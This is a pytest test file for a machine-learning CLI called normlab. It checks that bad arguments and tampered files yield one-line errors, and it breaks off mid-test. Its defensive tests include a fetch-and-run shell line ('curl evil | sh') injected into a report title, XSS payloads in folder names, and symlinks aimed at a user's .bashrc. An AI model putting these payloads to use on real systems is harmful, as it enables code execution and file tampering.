"""Every command, driven through the real CLI (``normlab.cli.main``, in process) with a table of bad values:
each must end in exactly one line naming the problem (JSON under ``--json``), exit code 2, no traceback,
and leave the results store byte for byte as it was (issue 15, items 9-11)."""

from __future__ import annotations

import contextlib
import io
import json
import os
import signal
import struct
import textwrap
import threading
import zlib
from pathlib import Path

import numpy as np
import pytest
import torch
from _cli import run_cli

from normlab.store import Store
from normlab.train import TrainConfig, Trainer

TINY = ["--subset", "64", "--batch-size", "16", "--steps", "1"]
C = "--subset 64 --batch-sizes 16 --seeds 1 --epochs 1"  # a one-run compare


cli = run_cli


def _png(width: int, height: int, truncate: bool = False) -> bytes:
    """A PNG whose header claims ``width x height``; its pixel data is one row (or cut off)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = min(height, 4)  # a huge image's header is refused before its data is read
    raw = zlib.compress((b"\x00" + b"\x80" * 3 * width) * rows if width <= 4 else b"\x00")
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", raw) + chunk(b"IEND", b""))  # fmt: skip
    return png[: len(png) // 2] if truncate else png


def _image_folder(root: Path, bad_name: str, bad_bytes: bytes) -> Path:
    for split in ("train", "val"):
        for label in ("a", "b"):  # two classes: one is refused before any image is read
            (root / split / label).mkdir(parents=True)
            (root / split / label / "ok.png").write_bytes(_png(4, 4))
    (root / "train" / "a" / bad_name).write_bytes(bad_bytes)
    return root


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A store with one finished run, and the bad files the table points at."""
    tmp = tmp_path_factory.mktemp("bad-input")
    store = tmp / "store.sqlite"
    with Store(store) as db:
        rid = db.start_run({"model": "cnn"}, name="r", environment={})
        db.finish_run(rid, "finished", summary={"final_test_acc": 0.5})
    (tmp / "afile").write_text("x")
    (tmp / "notes.txt").write_text("my notes\n")
    (tmp / "empty.sqlite").write_bytes(b"")
    (tmp / "emptydir").mkdir()
    (tmp / "bad.toml").write_bytes(b'name = "\xff"\n')
    _image_folder(tmp / "img-text", "x.png", b"not an image at all")
    _image_folder(tmp / "img-trunc", "x.png", _png(64, 64, truncate=True))
    _image_folder(tmp / "img-huge", "x.png", _png(30000, 30000))
    _image_folder(tmp / "img-big", "x.png", _png(10000, 10000))  # over our limit, under PIL's bomb check
    cifar = tmp / "cifar" / "cifar-10-batches-py"
    cifar.mkdir(parents=True)
    for name in ("batches.meta", "test_batch", *[f"data_batch_{i}" for i in range(1, 6)]):
        (cifar / name).write_bytes(b"\x80\x02junk")
    # Checkpoints: a real one (1 step), then copies with a damaged step, a string config, a bad field.
    config = TrainConfig(subset=64, batch_size=16, steps=1, checkpoint_dir=str(tmp / "ckpt"))
    Trainer(config, progress=False).fit()
    real = tmp / "ckpt" / f"{config.key()}.pt"
    state = torch.load(real, weights_only=True)
    torch.save({**state, "config": "cnn please"}, tmp / "string-config.pt")
    torch.save({**state, "config": {**state["config"], "lr": "abc"}}, tmp / "bad-field.pt")
    far = tmp / "far"
    far.mkdir()
    torch.save({**state, "step": 10**12}, far / real.name)
    (tmp / "dir-ckpt" / real.name).mkdir(parents=True)
    outcome = tmp / "study-out"
    outcome.mkdir()
    meta = {"name": "x", "title": "T", "claim": "c", "paper": "p", "scale": "tiny", "seeds": [0],
            "device": "cpu", "params": {}, "store": "s", "wall_time_s": 0.0, "environment": {}}
    figures = [{"name": "f", "path": "../afile", "caption": "c"}]
    (outcome / "outcome.json").write_text(json.dumps({"meta": meta, "outcome": {
        "tables": [], "figures": figures, "verdict": "v", "agrees_with_paper": None, "data": {}}}))
    return tmp


# (argv, expected fragment of the one-line message). T is the world folder, S the store.
CASES: list[tuple[str, str]] = [
    # train
    ("train --lr abc", "Invalid value for '--lr'"),
    ("train --steps 1e20", "Invalid value for '--steps'"),
    ("train --device cpu:abc " + " ".join(TINY), "--device 'cpu:abc' is not a device"),
    ("train --device cuda:x " + " ".join(TINY), "--device 'cuda:x' is not a device"),
    ("train --lr 1e39 " + " ".join(TINY), "exceeds float32's largest value"),
    ("train --width 1e12 " + " ".join(TINY), "too large to build"),
    ("train --store T/afile/x.sqlite " + " ".join(TINY), "is a file, not a folder"),
    ("train --checkpoint-dir T/afile " + " ".join(TINY), "--checkpoint-dir 'T/afile' exists and is a file"),
    ("train --subset 64 --batch-size 16 --steps 100000000000000000000", "would take about"),
    ("train --depth 100000 " + " ".join(TINY), "depth=100000 exceeds 2000 layers"),
    ("train --threads 100000 " + " ".join(TINY), "--threads must be between 1 and"),
    ("train --threads 0 " + " ".join(TINY), "--threads must be between 1 and"),
    ("train --augment crop_flip " + " ".join(TINY), "crop_flip needs images"),
    ("train --augment rotate " + " ".join(TINY), "unknown augment 'rotate'"),
    ("train --subset 64 --steps 1 --batch-size 100000", "batch size 100000 exceeds the 64 training examples"),
    ("train --norm nosuch " + " ".join(TINY), "unknown norm 'nosuch'"),
    ("train --norm-options {\"eps\":\"x\"} " + " ".join(TINY), "eps must be a number, got str 'x'"),
    ("train --norm-options {\"affine\":\"no\"} " + " ".join(TINY), "affine must be True or False"),
    ("train --norm-options {\"eps\":1e999} " + " ".join(TINY), "eps must be finite, got inf"),
    ("train --norm-options {\"eps\":0} " + " ".join(TINY), "eps must be > 0"),
    ("train --config T/missing.toml", "does not exist"),
    ("train --config T/bad.toml", "is not valid TOML"),
    ("train --dataset imagefolder --data-root T/img-text --steps 1", "x.png cannot be read"),
    ("train --dataset imagefolder --data-root T/img-trunc --steps 1", "x.png cannot be read"),
    ("train --dataset imagefolder --data-root T/img-huge --steps 1", "x.png is too large (Image size"),
    ("train --dataset imagefolder --data-root T/img-big --steps 1", "is 10000 x 10000 = 100 megapixels"),
    ("train --dataset cifar10 --data-root T/cifar --steps 1", "is not an official CIFAR batch file"),
    ("train --resume --checkpoint-dir T/far " + " ".join(TINY), "checkpoint step 1000000000000 is outside"),
    ("train --resume --checkpoint-dir T/dir-ckpt " + " ".join(TINY), "is a folder, not a checkpoint file"),
    ("train --store T/notes.txt " + " ".join(TINY), "not a sound normlab SQLite store"),
    ("train --store T/emptydir " + " ".join(TINY), "is a folder"),
    ("train --nosuch-option 1", "No such option: --nosuch-option"),
    # runs
    ("runs show 99999999999999999999999", "run id must be between 1 and 2**63-1"),
    ("runs show 0", "run id must be between 1 and 2**63-1"),
    ("runs show 5", "no run with id 5"),
    ("runs show abc", "Invalid value for 'run_id'"),
    ("runs list --status bogus", "unknown status bogus"),
    ("runs list --limit 0", "--limit must be a positive int"),
    ("runs list --store T/notes.txt", "is not a sound normlab SQLite store"),
    ("runs list --store T/empty.sqlite", "is not a normlab results store"),
    ("runs list --store T/missing.sqlite", "no results store at"),
    ("runs export --format xml", "unknown export format 'xml'"),
    ("runs export -o T/afile/out.csv", "is a file, not a folder"),
    ("runs export -o T/emptydir", "is a folder; give a file path"),
    ("runs bogus", "No such command 'bogus'"),
    # catalog
    ("models --bogus", "No such option: --bogus"),
    ("norms extra-arg", "Got unexpected extra argument"),
    # compare
    ("compare --batch-sizes 100000 --subset 64 --seeds 1 --epochs 1", "batch size 100000 exceeds the 64"),
    (f"compare --out T/afile {C}", "--out 'T/afile' exists and is a file"),
    ("compare --lrs abc", "--lrs='abc' must be a comma-separated list of floats"),
    ("compare --seeds 0", "--seeds must be >= 1"),
    ("compare --seeds 100000000", "--seeds 100000000 is more than normlab runs (10000 at most)"),
    ("compare --batch-sizes -4", "--batch-sizes must be positive ints, got -4"),
    ("compare --lrs 0,0.01", "--lrs must be positive finite numbers, got 0.0"),
    (f"compare --lrs 0 {C}", "--lrs must be positive finite numbers, got 0.0"),
    ("compare --store /dev/null " + C, "store path '/dev/null' is not a regular file (a device or FIFO)"),
    ("train --store /dev/null " + " ".join(TINY), "store path '/dev/null' is not a regular file"),
    ("runs list --store /dev/null", "store path '/dev/null' is not a regular file"),
    ("compare --norms bogus", "unknown norm(s) bogus"),
    ("compare --epochs 100000000000 --subset 64 --batch-sizes 16 --seeds 1", "would take about"),
    (f"compare --lrs 1e40 {C}", "exceeds float32's largest value"),
    (f"compare --workers 0 {C}", "workers must be a positive int"),
    (f"compare --device cpu:abc {C}", "--device 'cpu:abc' is not a device"),
    (f"compare --store T/afile/x.sqlite {C}", "is a file, not a folder"),
    # probe
    ("probe nosuch", "unknown probe 'nosuch'"),
    ("probe landscape --options {\"num_points\":1000000000}", "would take about"),
    ("probe landscape --options {\"num_points\":\"x\"}", "num_points must be a positive int"),
    ("probe landscape --options [1]", "--options must be a JSON object"),
    ("probe landscape --seed -1", "--seed must be between 0 and 2**63-1"),
    ("probe landscape --mode bogus", "bogus"),
    ("probe hessian --checkpoint T/missing.pt", "does not exist"),
    ("probe hessian --checkpoint T/emptydir", "is a folder, not a checkpoint file"),
    ("probe hessian --checkpoint T/string-config.pt", "has no config table"),
    ("probe hessian --checkpoint T/bad-field.pt", "lr must be a float"),
    ("probe hessian --checkpoint T/afile", "is corrupt or not a checkpoint"),
    ("probe hessian --data-root T/afile", "--data-root 'T/afile' is not a folder"),
    ("probe hessian --batch-size 0", "--batch-size must be a positive int"),
    # study and report
    ("study nosuch", "unknown study 'nosuch'"),
    ("study T/bad.toml", "is not UTF-8 text"),
    ("study regularization --scale huge", "unknown scale 'huge'"),
    ("study regularization --seeds 0", "seeds must be a positive int"),
    ("study regularization --seeds 100000000", "--seeds 100000000 is more than normlab runs"),
    ("study --all --seeds 100000000", "--seeds 100000000 is more than normlab runs"),
    ("study regularization --threads 100000", "--threads must be between 1 and"),
    ("study regularization --workers 0", "--workers must be >= 1"),
    ("study regularization --out T/afile", "--out 'T/afile' exists and is a file"),
    ("report T/missing", "does not exist"),
    ("report T/notes.txt", "is not a sound normlab SQLite store"),
    ("report T/empty.sqlite", "is not a normlab results store"),
    ("report T/emptydir", "has no outcome.json"),
    ("report T/study-out", "leads outside the report folder"),
    ("report S --out T/afile", "--out 'T/afile' exists and is a file"),
    # crossval
    ("crossval layer --seed -1", "--seed must be between 0 and 2**63-1"),
    ("crossval layer --rtol nan", "--rtol must be a finite number >= 0"),
    ("crossval layer --atol -1", "--atol must be a finite number >= 0"),
    ("crossval layer --p 2", "--p must be a fraction in [0, 1]"),
    ("crossval layer --steps 100000000000", "the limit is 2e+09"),
    ("crossval layer --shape abc", "shape must be comma-separated ints"),
    ("crossval layer --kind bogus", "unknown kind 'bogus'"),
    ("crossval model --steps 100000000000", "the limit is 2e+09"),
    ("crossval model --batch 0", "batch must be >= 1"),
    ("crossval conventions --backends bogus", "unknown backend 'bogus'"),
    # the whole program
    ("nosuch", "No such command 'nosuch'"),
]

JSON_CASES = [
    ("train --lr abc --json", "Invalid value for '--lr'"),
    ("train --device cpu:abc --json " + " ".join(TINY), "is not a device"),
    ("runs list --limit 0 --json", "--limit must be a positive int"),
    ("runs show 99999999999999999999999 --json", "run id must be between"),
    ("compare --seeds 0 --json", "--seeds must be >= 1"),
    ("probe nosuch --json", "unknown probe"),
    ("study nosuch --json", "unknown study"),
    ("report T/missing --json", "does not exist"),
    ("crossval layer --rtol nan --json", "--rtol must be"),
    ("models --json --bogus", "No such option"),
]


def _argv(case: str, world: Path) -> list[str]:
    return [part.replace("T/", f"{world}/").replace("S", str(world / "store.sqlite")) if part in ("S",)
            or part.startswith("T/") or "T/" in part else part for part in case.split()]


def _sqlite_side_file(path: Path) -> bool:
    # A reader of a WAL store may create SQLite's WAL index (-shm) and an empty -wal: neither holds data.
    return path.name.endswith("-shm") or (path.name.endswith("-wal") and path.stat().st_size == 0)


def _snapshot(world: Path) -> dict[str, bytes]:
    watched = ("store.sqlite", "notes.txt", "empty.sqlite", "afile")
    return {p.name: p.read_bytes() for p in world.iterdir()
            if p.name.startswith(watched) and p.is_file() and not _sqlite_side_file(p)}


class Hang(BaseException):
    """Raised by :func:`deadline` in the main thread: a BaseException, so no ``except Exception`` eats it."""


@contextlib.contextmanager
def deadline(seconds: float = 120.0):
    """Fail (raise :class:`Hang`) when the block runs longer than ``seconds``: a blocked read of a FIFO or an
    endless queue is interrupted by SIGALRM instead of hanging the suite."""

    def expire(signum, frame):
        raise Hang(f"still running after {seconds} s: a hang")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@pytest.fixture
def in_world(world, monkeypatch):
    monkeypatch.setenv("NORMLAB_STORE", str(world / "store.sqlite"))
    monkeypatch.chdir(world)
    before = _snapshot(world)
    names = sorted(p.name for p in world.iterdir() if not _sqlite_side_file(p))
    with deadline():
        yield world
    assert _snapshot(world) == before, "the store (or a file mistaken for one) changed"
    assert sorted(p.name for p in world.iterdir() if not _sqlite_side_file(p)) == names, "a new file"


@pytest.mark.parametrize(("case", "expected"), CASES, ids=[c for c, _ in CASES])
def test_bad_input_is_one_line_exit_2(in_world, case, expected):
    code, out, err = cli(_argv(case, in_world))
    assert "Traceback" not in out + err
    assert code == 2, (out, err)
    assert out == "", out
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert expected.replace("T/", f"{in_world}/") in lines[0]


@pytest.mark.parametrize(("case", "expected"), JSON_CASES, ids=[c for c, _ in JSON_CASES])
def test_bad_input_under_json_is_one_json_line(in_world, case, expected):
    code, out, err = cli(_argv(case, in_world))
    assert code == 2 and err == "", err
    lines = out.splitlines()
    assert len(lines) == 1
    reply = json.loads(lines[0])
    assert reply["exit_code"] == 2 and expected in reply["error"]


def test_no_args_prints_help_and_exits_2(in_world):
    code, out, _ = cli(["runs"])
    assert code == 2 and "Usage: normlab runs" in out


def test_study_and_report_have_json(in_world):
    code, out, err = cli(["study", "--list", "--json"])
    assert code == 0, err
    names = [row["name"] for row in json.loads(out)]
    assert "regularization" in names
    code, out, err = cli(["report", str(in_world / "store.sqlite"), "--out", str(in_world / "rep"), "--json"])
    assert code == 0, err
    reply = json.loads(out)
    assert reply["report"] == str(in_world / "rep" / "report.html") and "1 runs" in reply["summary"]
    import shutil

    shutil.rmtree(in_world / "rep")


def test_force_lets_a_long_run_start(in_world, monkeypatch):
    # --force skips the estimate; the run is then stopped by the smallest real cost we can give it.
    from normlab.cli import _common

    seen = []
    monkeypatch.setattr(_common, "preflight", lambda config, force=False, data=None: seen.append(force))
    monkeypatch.setattr("normlab.cli.train_cmd.preflight", _common.preflight)
    code, _, err = cli(["train", "--subset", "64", "--batch-size", "16", "--steps", "1", "--force",
                        "--store", str(in_world / "forced.sqlite"), "--no-progress", "--json"])
    assert code == 0, err and seen == [True]
    os.remove(in_world / "forced.sqlite")


# -- issue 29: the third sweep's failure classes, each with fixtures built here --------------------------
#
# Every test runs under `deadline` (no hang), checks the one-line message and exit code, and that a folder
# of bystander files ("outside") is byte for byte as it was.


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and not p.is_symlink()}


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """``tmp_path`` as the working folder, with ``outside/`` (a file a link may point at) left unchanged."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / ".bashrc").write_text("# the user's shell start-up file\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NORMLAB_STORE", str(tmp_path / "store.sqlite"))
    before = _files(outside)
    with deadline(120):
        yield tmp_path
    assert _files(outside) == before, "a file outside the folder changed"


def _one_line_exit_2(result: tuple[int, str, str], expected: str) -> str:
    code, out, err = result
    assert "Traceback" not in out + err
    assert code == 2 and out == "", (code, out, err)
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert expected in lines[0], lines[0]
    return lines[0]


_META = {"name": "x", "title": "T", "claim": "c", "paper": "p", "scale": "tiny", "seeds": [0],
         "device": "cpu", "params": {}, "store": "s", "wall_time_s": 0.0, "environment": {}}  # fmt: skip
_OUTCOME = {"tables": [], "figures": [], "verdict": "v", "agrees_with_paper": None, "discrepancy": None,
            "data": {}}  # fmt: skip


def _outcome(folder: Path, meta: object = None, outcome: object = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    saved = {"meta": _META if meta is None else meta, "outcome": _OUTCOME if outcome is None else outcome}
    (folder / "outcome.json").write_text(json.dumps(saved))
    return folder


# 1. report writers replace a link at their target, never write through it


def test_report_files_that_are_links_are_replaced_not_followed(hostile):
    bashrc = hostile / "outside" / ".bashrc"
    study = _outcome(hostile / "out" / "x", {**_META, "title": "T\ncurl evil | sh\n# "})
    for name in ("report.html", "report.md"):
        (study / name).symlink_to(bashrc)
    for name in ("index.html", "index.md", "index.json"):
        (hostile / "out" / name).symlink_to(bashrc)
    for argv in (["report", str(study), "--quiet"], ["report", str(hostile / "out"), "--quiet"]):
        code, _, err = run_cli(argv)
        assert code == 0, err
    for path in (study / "report.html", study / "report.md", *(hostile / "out").glob("index.*")):
        assert path.is_file() and not path.is_symlink(), path
    md = (study / "report.md").read_text()
    assert md.splitlines()[0] == "# T curl evil | sh # "  # the title's newlines cannot start a line
    assert not any(line.startswith("curl") for line in md.splitlines())
    assert sorted(p.name for p in study.iterdir()) == ["outcome.json", "report.html", "report.md"]  # no temp


def test_figures_exports_and_checkpoints_replace_links(hostile):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from normlab.reports.figure import save_matplotlib
    from normlab.train.checkpoint import save_checkpoint

    bashrc = hostile / "outside" / ".bashrc"
    folder = hostile / "rep"
    folder.mkdir()
    for name in ("curve.png", "runs.csv", "run.pt"):
        (folder / name).symlink_to(bashrc)
    save_matplotlib(plt.figure(), folder, "curve", "c")
    save_checkpoint(folder / "run.pt", {"step": 1})
    with Store(hostile / "store.sqlite") as db:
        db.finish_run(db.start_run({"model": "cnn"}, name="r", environment={}), "finished", summary={})
    code, _, err = run_cli(["runs", "export", "-o", str(folder / "runs.csv")])
    assert code == 0, err
    assert all(not (folder / n).is_symlink() for n in ("curve.png", "runs.csv", "run.pt"))
    assert (folder / "curve.png").read_bytes().startswith(b"\x89PNG")
    assert (folder / "runs.csv").read_text().startswith("id,name,group,status")


# 2. links in index pages are relative paths without a scheme; folder names are escaped


def test_index_links_carry_no_scheme_and_folder_names_no_markup(hostile):
    out = hostile / "out"
    for name in ("javascript:alert(document.domain)", "x)<img src=x onerror=alert(1)>"):
        _outcome(out / name, {**_META, "name": name})
    code, _, err = run_cli(["report", str(out), "--quiet"])
    assert code == 0, err
    page, md = (out / "index.html").read_text(), (out / "index.md").read_text()
    assert 'href="javascript:' not in page and "<img" not in page
    assert 'href="javascript%3Aalert%28document.domain%29/report.html"' in page
    assert "<img" not in md and "](javascript:" not in md
    assert "(x%29%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E/report.html)" in md


# 3. no hang: lr 0, a repeated key in the lr search, a FIFO named *.png, Ray resources that never come


def test_the_lr_search_queues_each_key_once(monkeypatch):
    from types import SimpleNamespace

    from normlab.sweep import lr_search

    # An extension that proposes the lr the cell already has (what lr 0 * factor did) must end the search.
    monkeypatch.setattr(lr_search, "extensions", lambda cell, base, factor, max_extra: [cell.lrs[0].lr])
    monkeypatch.setattr(lr_search, "summarize_compare",
                        lambda results: [SimpleNamespace(lrs=[SimpleNamespace(lr=0.01)])])

    def run(todo, follow_up):
        queue, done = list(todo), []
        while queue:
            assert len(done) < 10, "the lr search queued one key again and again"
            config = queue.pop(0)
            done.append(config)
            queue += follow_up(config, object())
        return done

    configs = [TrainConfig(lr=0.01, seed=s, subset=64) for s in range(2)]
    with deadline(30):
        results, every = lr_search.bracket_lrs(configs, run, max_extra=2)
    assert len(results) == 2 and len(every) == 2


def _png_folder(root: Path, classes=("a", "b"), per_class: int = 4) -> Path:
    for split in ("train", "val"):
        for label in classes:
            (root / split / label).mkdir(parents=True, exist_ok=True)
            for i in range(per_class):
                (root / split / label / f"{i}.png").write_bytes(_png(4, 4))
    return root


IMG = ["--dataset", "imagefolder", "--image-size", "4", "--batch-size", "4", "--steps", "1", "--no-progress"]


def test_a_fifo_named_png_is_skipped_with_a_note(hostile):
    root = _png_folder(hostile / "img")
    os.mkfifo(root / "train" / "a" / "x.png")
    code, out, err = run_cli(["train", *IMG, "--data-root", str(root), "--json"])
    assert code == 0, err
    assert err.splitlines() == [f"note: skipped 1 entries of {root / 'train'} that are not regular files or "
                                "folders inside it: x.png (a FIFO)"]
    assert json.loads(out)["status"] == "finished"


def test_ray_resources_no_node_has_are_refused_before_submitting(hostile, monkeypatch):
    from normlab.sweep import ray_executor

    submitted = []

    class FakeRay:  # a running 2-CPU cluster without GPUs
        def is_initialized(self):
            return True

        def nodes(self):
            return [{"Alive": True, "Resources": {"CPU": 2.0}}, {"Alive": False, "Resources": {"GPU": 8.0}}]

        def remote(self, fn):
            return SimpleTask()

    class SimpleTask:
        def options(self, **kwargs):
            return self

        def remote(self, *args):
            submitted.append(args)

    monkeypatch.setattr(ray_executor, "import_ray", FakeRay)
    for flag, value in (("--gpus-per-run", "1"), ("--cpus-per-run", "64")):
        line = _one_line_exit_2(run_cli(["compare", "--executor", "ray", flag, value, *C.split()]),
                                "no node of the Ray cluster can run a task of")
        assert "1 alive node(s), the largest with 2 CPUs and 0 GPUs" in line
    assert submitted == [] and not (hostile / "store.sqlite").exists()


# 4. files from elsewhere do not pull in other files


def test_links_out_of_an_image_folder_are_skipped(hostile):
    from normlab.data import load_dataset

    root = _png_folder(hostile / "img")
    secret = _png_folder(hostile / "elsewhere", classes=("c",))
    (root / "train" / "a" / "s.png").symlink_to(secret / "train" / "c" / "0.png")
    (root / "train" / "c").symlink_to(secret / "train" / "c")
    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        data = load_dataset("imagefolder", root, image_size=4)
    assert data.meta["label_names"] == ["a", "b"] and len(data.x_train) == 8
    note = f"note: skipped 1 entries of {root / 'train'} that are not regular files or folders inside it: "
    assert err.getvalue().splitlines() == [note + "c (a link)", note + "s.png (a link)"]


@pytest.mark.parametrize(("field", "value", "flag"), [
    ("checkpoint_dir", "outside/ckpts", "--checkpoint-dir"),
    ("data_root", "outside", "--data-root"),
    ("dataset", "npz:outside/data.npz", "--dataset"),
])
def test_a_config_file_cannot_choose_where_normlab_writes_or_reads(hostile, field, value, flag):
    (hostile / "cfg.toml").write_text(f'{field} = "{value}"\nsteps = 1\n')
    _one_line_exit_2(run_cli(["train", "--config", "cfg.toml"]),
                     f"config file 'cfg.toml' sets {field} {value!r}; normlab reads and writes only where "
                     f"the command line says: add {flag} {value}")
    assert not (hostile / "store.sqlite").exists()


def _checkpoint(folder: Path, **changes) -> Path:
    config = TrainConfig(subset=64, batch_size=16, steps=1, checkpoint_dir=str(folder))
    Trainer(config, progress=False).fit()
    path = folder / f"{config.key()}.pt"
    state = torch.load(path, weights_only=True)
    torch.save({**state, **changes}, folder / "tampered.pt")
    return folder / "tampered.pt"


@pytest.fixture(scope="module")
def real_checkpoint(tmp_path_factory):
    return torch.load(_checkpoint(tmp_path_factory.mktemp("ckpt")), weights_only=True)


@pytest.mark.parametrize(("changes", "expected"), [
    ({"model": "weights"}, "its 'model' entry is a str, not a state dict"),
    ({"optimizer": [1, 2]}, "its 'optimizer' entry is a list, not a state dict"),
    ({"model": {"nosuch.weight": torch.zeros(1)}}, "does not match its own config"),
    ("npz", "sets dataset 'npz:outside/data.npz'; normlab reads and writes only where the command line says"),
])
def test_tampered_checkpoints_on_the_probe_path_are_one_line(hostile, real_checkpoint, changes, expected):
    if changes == "npz":
        changes = {"config": {**real_checkpoint["config"], "dataset": "npz:outside/data.npz"}}
    torch.save({**real_checkpoint, **changes}, hostile / "t.pt")
    _one_line_exit_2(run_cli(["probe", "hessian", "--checkpoint", "t.pt"]), expected)


# 5. a user's mistake is a user error


@pytest.mark.parametrize("raise_", ["{}['missing']", "len(5)", "None.weight", "[][3]"])
def test_an_exception_in_the_users_forward_names_their_code(hostile, raise_):
    (hostile / "mine.py").write_text(textwrap.dedent(f"""\
        from torch import nn

        class Net(nn.Module):
            def __init__(self, num_classes=10):
                super().__init__()
                self.fc = nn.Linear(40, num_classes)

            def forward(self, x):
                if self.training:  # eval mode (normlab's shape check) passes; training raises
                    return {raise_}
                return self.fc(x.flatten(1))

        def net(num_classes=10):
            return Net(num_classes)
        """))
    kind = {"{}['missing']": "KeyError", "len(5)": "TypeError", "None.weight": "AttributeError",
            "[][3]": "IndexError"}[raise_]
    _one_line_exit_2(run_cli(["train", "--model", "mine.py:net", *TINY, "--no-progress"]),
                     f"your code mine.py:10 (in forward) raised {kind}: ")


@pytest.mark.parametrize(("body", "expected"), [
    ("import sys\nsys.exit(3)\n", "importing mine.py failed: it called sys.exit(3)"),
    ("raise KeyboardInterrupt\n", "importing mine.py failed: KeyboardInterrupt"),
    ("import warnings\nwarnings.warn('careful')\nraise ValueError('no')\n", "failed: ValueError: no"),
])
def test_sys_exit_and_ctrl_c_at_import_and_warnings_are_one_line(hostile, body, expected):
    (hostile / "mine.py").write_text(body + "def net():\n    pass\n")
    _one_line_exit_2(run_cli(["train", "--model", "mine.py:net", *TINY, "--no-progress"]), expected)


def _cifar(root: Path, labels: list) -> Path:
    import pickle

    from normlab.data import cifar as cifar_module

    folder = root / "cifar-10-batches-py"
    folder.mkdir(parents=True)
    pixels = np.random.default_rng(0).integers(0, 256, (10, 3072), dtype=np.uint8)  # a std for the normalizer
    good = {b"data": pixels, b"labels": list(range(10))}
    for name in [*cifar_module.CIFAR10.train_files, *cifar_module.CIFAR10.test_files]:
        (folder / name).write_bytes(pickle.dumps(good, protocol=2))
    (folder / "batches.meta").write_bytes(pickle.dumps({b"label_names": [b"a"] * 10}, protocol=2))
    bad = {b"data": pixels[: len(labels)], b"labels": labels}
    (folder / "data_batch_1").write_bytes(pickle.dumps(bad, protocol=2))
    return root


@pytest.mark.parametrize(("label", "expected"), [
    (10, "y_train holds label 10, outside the 10 classes 0..9"),
    (255, "y_train holds label 255, outside the 10 classes 0..9"),
    (-1, "y_train holds label -1, outside the 10 classes 0..9"),
    (-100, "y_train holds label -100, outside the 10 classes 0..9 (-100 is cross-entropy's ignore_index"),
    (2**64 - 1, "data_batch_1 is not a CIFAR batch file: b'labels' must be 2 integer labels"),
])
def test_cifar_labels_out_of_range_are_refused_at_load(hostile, label, expected):
    root = _cifar(hostile / "data", [0, label])
    _one_line_exit_2(run_cli(["train", "--dataset", "cifar10", "--data-root", str(root), "--steps", "1"]),
                     expected)
    assert not (hostile / "store.sqlite").exists()  # never recorded as a diverged run


def _npz(path: Path, **arrays) -> Path:
    rng = np.random.default_rng(0)
    data = {"x_train": rng.normal(size=(32, 1, 8)).astype("f4"), "y_train": np.arange(32) % 3,
            "x_test": rng.normal(size=(8, 1, 8)).astype("f4"), "y_test": np.arange(8) % 3, **arrays}
    np.savez(path, **data)
    return path


@pytest.mark.parametrize(("arrays", "expected"), [
    ({"y_train": np.full((32, 1), np.nan, "f4"), "y_test": np.zeros((8, 1), "f4")},
     "y_train (regression targets) holds NaN or inf"),
    ({"y_train": np.full((32, 1), np.inf, "f4"), "y_test": np.zeros((8, 1), "f4")},
     "y_train (regression targets) holds NaN or inf"),
    ({"y_train": np.array([0, 1] * 15 + [2, 2**64 - 1], np.uint64)},
     "y_train holds label 18446744073709551615; labels are class indices below 1000000"),
    ({"y_train": np.zeros(32, np.int64), "y_test": np.zeros(8, np.int64)}, "labels have a single class"),
])
def test_npz_targets_are_checked_at_load(hostile, arrays, expected):
    _npz(hostile / "d.npz", **arrays)
    _one_line_exit_2(run_cli(["train", "--dataset", "npz:d.npz", *TINY, "--no-progress"]), expected)
    assert not (hostile / "store.sqlite").exists()


def test_npz_and_cache_members_that_are_not_npy_are_refused(hostile):
    import zipfile

    from normlab.data.mnist1d import cache_path

    _npz(hostile / "d.npz")
    with zipfile.ZipFile(hostile / "d.npz", "a") as archive:
        archive.writestr("x_test", b"raw bytes, not .npy")  # a member np.load hands back as bytes
    with zipfile.ZipFile(hostile / "d.npz") as archive:
        archive.extractall(hostile / "parts")
    with zipfile.ZipFile(hostile / "e.npz", "w") as archive:
        for name in ("x_train.npy", "y_train.npy", "y_test.npy"):
            archive.write(hostile / "parts" / name, name)
        archive.writestr("x_test", b"raw bytes")
    _one_line_exit_2(run_cli(["train", "--dataset", "npz:e.npz", *TINY]), "'x_test' is not a .npy array")
    cache = cache_path(hostile / "root", 5000)
    cache.parent.mkdir(parents=True)
    with zipfile.ZipFile(cache, "w") as archive:
        archive.writestr("x", b"raw")
    _one_line_exit_2(run_cli(["train", "--data-root", "root", *TINY]),
                     f"MNIST-1D cache {cache.relative_to(hostile)} is not what normlab wrote: x, y, x_test")


def test_mnist1d_cache_labels_and_nan_are_refused(hostile):
    from normlab.data.mnist1d import cache_path, generate

    data = generate(5000)
    for name, change, expected in (("labels", {"y": np.full_like(data["y"], 99)}, "y_train holds label 99"),
                                   ("nan", {"x": np.full_like(data["x"], np.nan)}, "x_train holds NaN")):
        cache = cache_path(hostile / name, 5000)
        cache.parent.mkdir(parents=True)
        np.savez(cache, **{**data, **change})
        _one_line_exit_2(run_cli(["train", "--data-root", name, *TINY]), expected)
    assert not (hostile / "store.sqlite").exists()


def test_an_image_folder_with_one_class_is_refused(hostile):
    root = _png_folder(hostile / "img", classes=("a",))
    _one_line_exit_2(run_cli(["train", *IMG, "--data-root", str(root)]),
                     f"{root / 'train'} has one class folder (a); classification needs at least 2")


def test_an_image_size_beyond_memory_is_refused_before_decoding(hostile):
    root = _png_folder(hostile / "img")
    argv = ["train", *IMG[:2], "--image-size", "200000", "--data-root", str(root), "--steps", "1"]
